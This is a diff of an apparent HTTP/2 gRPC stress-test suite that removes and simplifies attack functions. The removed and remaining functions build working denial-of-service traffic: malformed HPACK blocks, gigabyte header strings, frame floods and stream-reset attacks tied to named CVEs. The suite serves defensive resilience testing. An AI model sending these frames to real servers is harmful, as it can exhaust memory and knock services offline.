@@ -145,26 +145,6 @@ def _split(stream, pieces):
 
 
 @attack(memory=16)
-def odd_fields_and_8_kib(stage):
-    """CVE-2023-1428: the same among more than 8 KiB of others, in every order,
-    in one frame or cut into several."""
-    fillers = [[("x-filler", "f" * 9000)],
-               [(f"x-{i}", "f" * 300) for i in range(30)],
-               [("x-half", "f" * 4000), ("x-rest", "f" * 4300)]]
-    wires = []
-    for odd, filler in itertools.product(ODD_FIELDS, fillers):
-        rest, odd = _with(odd)
-        for order in itertools.permutations((rest, odd, filler)):
-            pairs = [h2.field(*pair) for part in order for pair in part]
-            block = b"".join(pairs)
-            cut = len(block) // 2
-            wires += [_split(1, [block]), _split(1, pairs),
-                      _split(1, [block[:cut], block[cut:]])]
-    step = 1 if stage.scale > 1 else 5
-    return _ask_with(stage, wires[::step], body=False)
-
-
-@attack(memory=16)
 def odd_base64(stage):
     """-bin fields with invalid base64."""
     values = ["!", "A", "AA", "AAA", "AAAA=", "=", "====", "A=A=", "A\0AA",
@@ -191,43 +171,6 @@ def much_metadata(stage):
 
 
 # HPACK ---------------------------------------------------------------------
-
-
-@attack(memory=16)
-def odd_hpack(stage):
-    """Bytes that are no header block."""
-    blocks = [
-        b"\x80", b"\xff" + b"\xff" * 4 + b"\x07", b"\xff" + b"\x80" * 200,
-        b"\x7f" + b"\x80" * 16000, b"\xff" + b"\xff" * 16000, b"\xbe",
-        b"\x00\x7f" + b"\x80" * 9000, b"\x00\x7f\xff\xff\xff\xff\x0fabc",
-        b"\x00\xff\xff\xff\xff\xff\x0fabc", b"\x00\x81\xff\x81\xff",
-        b"\x00\x84\xff\xff\xff\xff\x01x", b"\x00", b"\x40", b"\x3f" * 3,
-        h2.table_size(0) * 3, h2.table_size(0) * 5000,
-        h2.table_size(0) + h2.table_size(4096), h2.table_size(1 << 31),
-        h2.table_size(4097), b"\x00\x00\x00", b"\x40\x00\x00" * 5000,
-        h2.indexed(62), h2.indexed(1 << 31), b"\x0f\xff\xff\xff\xff\x0f",
-        b"\x82" * 16000, b"\x00" + h2.string("x", 16000) + b"y" * 300]
-    wires = [h2.frame(h2.HEADERS, flags, 1, block)
-             for block in blocks for flags in (h2.END_HEADERS, 0)]
-    outcomes = []
-    for wire in wires:
-        with stage.connect() as client:
-            client.send(wire + h2.frame(h2.CONTINUATION, 4, 1, b"\x82"))
-            outcomes.append(client.ended(1, 0.2))
-    return _counted(outcomes)
-
-
-@attack(memory=16)
-def hpack_storm(stage):
-    """A table that grows and shrinks, entries in and out of it."""
-    block = (h2.table_size(0) + h2.table_size(4096) + h2.block(h2.fields()) +
-             h2.field("x", "v" * 3900, 0x40) + h2.indexed(62))
-    with stage.connect() as client:
-        for number in range(1000 * stage.scale):
-            client.send(h2.frame(h2.HEADERS, 5, 2 * number + 1, block))
-            if client.closed:
-                break
-        return f"{number + 1} blocks, {_told(client)}"
 
 
 def _continue(stage, first, pieces):
@@ -266,30 +209,17 @@ def hpack_bomb(stage):
 @attack(memory=64)
 def endless_string(stage):
     """CVE-2023-33953: a field of a gigabyte, announced, and begun."""
-    first = b"\x00" + h2.string("x") + integer_of_string(1 << 30)
+    first = b"\x00" + h2.string("x") + h2.integer(1 << 30, 7)
     return _continue(stage, first,
                      itertools.repeat(b"v" * 16000, 300 * stage.scale))
-
-
-@attack(memory=64)
-def endless_string_by_bytes(stage):
-    """CVE-2023-33953: the same, a byte a frame; gRPC copies all of it each
-    time."""
-    first = b"\x00" + h2.string("x") + integer_of_string(1 << 30)
-    return _continue(stage, first + b"v" * 16000,
-                     itertools.repeat(b"v", 20000 * stage.scale))
-
-
-def integer_of_string(length):
-    return h2.integer(length, 7)
 
 
 # Floods --------------------------------------------------------------------
 
 
-def _flood(stage, wire, times, first=b"", read=True, **how):
+def _flood(stage, wire, times, first=b"", read=True):
     """The same frames, many times; whether they are taken."""
-    with stage.connect(**how) as client:
+    with stage.connect() as client:
         client.send(first)
         chunk = wire * max(1, 65536 // len(wire))
         sent = 0
@@ -328,45 +258,9 @@ def settings_flood_unread(stage):
 
 
 @attack(memory=96)
-def settings_of_many(stage):
-    """2700 settings in a frame: windows that open and close."""
-    pairs = [(h2.INITIAL_WINDOW_SIZE, size) for size in (0, 65535)] * 1350
-    return _flood(stage, h2.settings(*pairs), 200 * stage.scale,
-                  h2.call(1, h2.fields("StreamTopK")))
-
-
-@attack(memory=96)
 def empty_data_flood(stage):
     return _flood(stage, h2.frame(h2.DATA, 0, 1), 50000 * stage.scale,
                   h2.call(1, h2.fields("StreamTopK")))
-
-
-@attack(memory=96)
-def priority_flood(stage):
-    return _flood(stage, h2.frame(h2.PRIORITY, 0, 3, b"\0\0\0\1\x10"),
-                  50000 * stage.scale)
-
-
-@attack(memory=96)
-def window_update_flood(stage):
-    return _flood(stage, h2.window_update(0, 1), 50000 * stage.scale)
-
-
-@attack(memory=96)
-def goaway_flood(stage):
-    return _flood(stage, h2.frame(h2.GOAWAY, 0, 0, bytes(8) + b"x" * 50),
-                  20000 * stage.scale)
-
-
-@attack(memory=96)
-def unknown_frame_flood(stage):
-    return _flood(stage, h2.frame(0xbe, 0xff, 1, b"x" * 50),
-                  20000 * stage.scale)
-
-
-@attack(memory=96)
-def reset_of_idle_flood(stage):
-    return _flood(stage, h2.rst_stream(99), 50000 * stage.scale)
 
 
 def _resets(stage, method, extra, count, end_stream=False):
@@ -403,14 +297,6 @@ def rapid_reset_with_request(stage):
     body = h2.message(harness.REQUEST)
     return _resets(stage, "ComputeTopK", lambda stream: h2.data(
         stream, body, end_stream=True) + h2.rst_stream(stream),
-                   5000 * stage.scale)
-
-
-@attack(memory=64)
-def made_you_reset(stage):
-    """CVE-2025-8671: what makes the server reset the stream itself."""
-    return _resets(stage, "ComputeTopK",
-                   lambda stream: h2.window_update(stream, 0),
                    5000 * stage.scale)
 
 
